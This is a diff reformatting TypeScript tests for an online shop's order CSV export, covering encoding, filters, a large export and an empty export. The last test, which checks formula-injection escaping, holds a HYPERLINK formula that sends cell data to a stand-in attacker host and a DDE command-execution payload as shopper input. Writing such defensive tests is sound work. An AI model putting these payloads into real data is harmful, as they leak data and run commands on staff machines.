@@ -16,24 +16,50 @@ let countryId: number;
 let productId: number;
 let variantId: number;
 
-async function insertOrder(date: string, lines: Array<{ name: string; qty: number; unitCents: number }>, extra: { shippingCents?: number; discountCents?: number; promo?: string } = {}) {
+async function insertOrder(
+  date: string,
+  lines: Array<{ name: string; qty: number; unitCents: number }>,
+  extra: { shippingCents?: number; discountCents?: number; promo?: string } = {},
+) {
   const subtotal = lines.reduce((n, l) => n + l.qty * l.unitCents, 0);
   const shipping = extra.shippingCents ?? 250;
   const discount = extra.discountCents ?? 0;
   const o = await t.db
     .insertInto('orders')
     .values({
-      order_date: date, status: 'pending', first_name: 'Ëndrit', last_name: 'Çeku', email: 'endrit@example.com',
-      phone_number: '+38344123123', address: 'Rruga "Nëna Terezë" 12, hyrja 2', city: 'Prishtinë', zip_code: '10000',
-      country_id: countryId, country_name: 'Kosova', subtotal_cents: subtotal, discount_cents: discount,
-      shipping_cost_cents: shipping, total_cents: subtotal - discount + shipping, promo_code: extra.promo ?? null,
+      order_date: date,
+      status: 'pending',
+      first_name: 'Ëndrit',
+      last_name: 'Çeku',
+      email: 'endrit@example.com',
+      phone_number: '+38344123123',
+      address: 'Rruga "Nëna Terezë" 12, hyrja 2',
+      city: 'Prishtinë',
+      zip_code: '10000',
+      country_id: countryId,
+      country_name: 'Kosova',
+      subtotal_cents: subtotal,
+      discount_cents: discount,
+      shipping_cost_cents: shipping,
+      total_cents: subtotal - discount + shipping,
+      promo_code: extra.promo ?? null,
     })
     .returning('order_id')
     .executeTakeFirstOrThrow();
   for (const l of lines) {
     await t.db
       .insertInto('order_details')
-      .values({ order_id: o.order_id, variant_id: variantId, product_id: productId, product_name: l.name, color: 'E zezë', size: 'M', quantity: l.qty, unit_price_cents: l.unitCents, line_total_cents: l.qty * l.unitCents })
+      .values({
+        order_id: o.order_id,
+        variant_id: variantId,
+        product_id: productId,
+        product_name: l.name,
+        color: 'E zezë',
+        size: 'M',
+        quantity: l.qty,
+        unit_price_cents: l.unitCents,
+        line_total_cents: l.qty * l.unitCents,
+      })
       .execute();
   }
   return o.order_id;
@@ -69,10 +95,14 @@ describe('GET /api/Orders/export.csv', () => {
   });
 
   it('UTF-8 with BOM, a header row, one row per order line, plain decimals, quotes and commas kept', async () => {
-    const id = await insertOrder('2026-05-10T08:00:00.000Z', [
-      { name: 'Fustan mëndafshi, i gjatë', qty: 2, unitCents: 2495 },
-      { name: 'Këmishë', qty: 1, unitCents: 500 },
-    ], { discountCents: 549, promo: 'VERË10' });
+    const id = await insertOrder(
+      '2026-05-10T08:00:00.000Z',
+      [
+        { name: 'Fustan mëndafshi, i gjatë', qty: 2, unitCents: 2495 },
+        { name: 'Këmishë', qty: 1, unitCents: 500 },
+      ],
+      { discountCents: 549, promo: 'VERË10' },
+    );
     const { r, bytes, text } = await exportCsv('?from=2026-05-10&to=2026-05-10');
     expect(r.status).toBe(200);
     expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -83,10 +113,23 @@ describe('GET /api/Orders/export.csv', () => {
     const rows = rowsOf(text);
     expect(rows).toHaveLength(2);
     expect(rows[0]).toMatchObject({
-      orderNumber: `#${String(id).padStart(6, '0')}`, orderId: String(id), status: 'pending', statusLabel: 'Në Pritje',
-      firstName: 'Ëndrit', lastName: 'Çeku', address: 'Rruga "Nëna Terezë" 12, hyrja 2', city: 'Prishtinë',
-      productName: 'Fustan mëndafshi, i gjatë', quantity: '2', unitPrice: '24.95', lineTotal: '49.90',
-      orderSubtotal: '54.90', orderDiscount: '5.49', promoCode: 'VERË10', orderShipping: '2.50', orderTotal: '51.91',
+      orderNumber: `#${String(id).padStart(6, '0')}`,
+      orderId: String(id),
+      status: 'pending',
+      statusLabel: 'Në Pritje',
+      firstName: 'Ëndrit',
+      lastName: 'Çeku',
+      address: 'Rruga "Nëna Terezë" 12, hyrja 2',
+      city: 'Prishtinë',
+      productName: 'Fustan mëndafshi, i gjatë',
+      quantity: '2',
+      unitPrice: '24.95',
+      lineTotal: '49.90',
+      orderSubtotal: '54.90',
+      orderDiscount: '5.49',
+      promoCode: 'VERË10',
+      orderShipping: '2.50',
+      orderTotal: '51.91',
     });
     expect(rows[1]).toMatchObject({ productName: 'Këmishë', quantity: '1', unitPrice: '5.00', lineTotal: '5.00' });
   });
@@ -104,7 +147,9 @@ describe('GET /api/Orders/export.csv', () => {
 
     await svc.cancelOrder(t, june2, null);
     const cancelled = rowsOf((await exportCsv('?from=2026-06-01&to=2026-06-02&status=cancelled')).text);
-    expect(cancelled.map((r) => [Number(r.orderId), r.status, r.statusLabel])).toEqual([[june2, 'cancelled', 'Anuluar']]);
+    expect(cancelled.map((r) => [Number(r.orderId), r.status, r.statusLabel])).toEqual([
+      [june2, 'cancelled', 'Anuluar'],
+    ]);
     expect(cancelled[0]!.closedAt).not.toBe('');
     expect(ids((await exportCsv('?from=2026-06-01&to=2026-06-02&status=pending')).text)).toEqual([june1]);
   });
@@ -120,11 +165,37 @@ describe('GET /api/Orders/export.csv', () => {
       for (let i = 0; i < orders; i++) {
         const o = await trx
           .insertInto('orders')
-          .values({ order_date: `2026-07-01T10:${String(i % 60).padStart(2, '0')}:00.000Z`, status: 'delivered', first_name: 'A', last_name: 'B', email: 'a@b.c', phone_number: '1', address: 'x', city: 'y', zip_code: 'z', country_id: cid, country_name: 'K', subtotal_cents: 300, shipping_cost_cents: 0, total_cents: 300 })
+          .values({
+            order_date: `2026-07-01T10:${String(i % 60).padStart(2, '0')}:00.000Z`,
+            status: 'delivered',
+            first_name: 'A',
+            last_name: 'B',
+            email: 'a@b.c',
+            phone_number: '1',
+            address: 'x',
+            city: 'y',
+            zip_code: 'z',
+            country_id: cid,
+            country_name: 'K',
+            subtotal_cents: 300,
+            shipping_cost_cents: 0,
+            total_cents: 300,
+          })
           .returning('order_id')
           .executeTakeFirstOrThrow();
         for (let j = 0; j < perOrder; j++) {
-          await trx.insertInto('order_details').values({ order_id: o.order_id, product_name: `P${i}-${j}`, color: 'c', size: 's', quantity: 1, unit_price_cents: 100, line_total_cents: 100 }).execute();
+          await trx
+            .insertInto('order_details')
+            .values({
+              order_id: o.order_id,
+              product_name: `P${i}-${j}`,
+              color: 'c',
+              size: 's',
+              quantity: 1,
+              unit_price_cents: 100,
+              line_total_cents: 100,
+            })
+            .execute();
         }
       }
     });
@@ -138,16 +209,31 @@ describe('GET /api/Orders/export.csv', () => {
     const empty = await fresh.request('/api/Orders/export.csv?from=2030-01-01', { token });
     const text = await empty.text();
     expect(rowsOf(text)).toEqual([]);
-    expect(text.replace(/^\uFEFF/, '').trim().split('\r\n')).toHaveLength(1);
+    expect(
+      text
+        .replace(/^\uFEFF/, '')
+        .trim()
+        .split('\r\n'),
+    ).toHaveLength(1);
   });
 
   it("an anonymous shopper's formula-like address and city reach the spreadsheet as text: one quote in front", async () => {
     const address = '=HYPERLINK("http://evil.example/?x="&A2,"Kliko")';
-    const city = '-2+3+cmd|\' /C calc\'!A0';
+    const city = "-2+3+cmd|' /C calc'!A0";
     const placed = await t.request('/api/orders/checkout', {
       method: 'POST',
       json: {
-        customerDetails: { email: 'anon@example.com', firstName: 'Arta', lastName: 'Hoxha', phoneNumber: '+38344111222', countryID: countryId, city, address, zipCode: '@10000', guestId: 'guest_csvformula1' },
+        customerDetails: {
+          email: 'anon@example.com',
+          firstName: 'Arta',
+          lastName: 'Hoxha',
+          phoneNumber: '+38344111222',
+          countryID: countryId,
+          city,
+          address,
+          zipCode: '@10000',
+          guestId: 'guest_csvformula1',
+        },
         cartItems: [{ productVariantId: variantId, quantity: 1 }],
         promoCode: null,
       },
@@ -156,7 +242,13 @@ describe('GET /api/Orders/export.csv', () => {
     const { orderId } = (await placed.json()) as { orderId: number };
     const { text } = await exportCsv();
     const row = rowsOf(text).find((r) => Number(r.orderId) === orderId)!;
-    expect(row).toMatchObject({ address: `'${address}`, city: `'${city}`, zipCode: "'@10000", firstName: 'Arta', email: 'anon@example.com' });
+    expect(row).toMatchObject({
+      address: `'${address}`,
+      city: `'${city}`,
+      zipCode: "'@10000",
+      firstName: 'Arta',
+      email: 'anon@example.com',
+    });
     // In the raw bytes no cell starts with the formula: the quoted cell begins with the quote mark.
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Kliko"")"`);
     expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
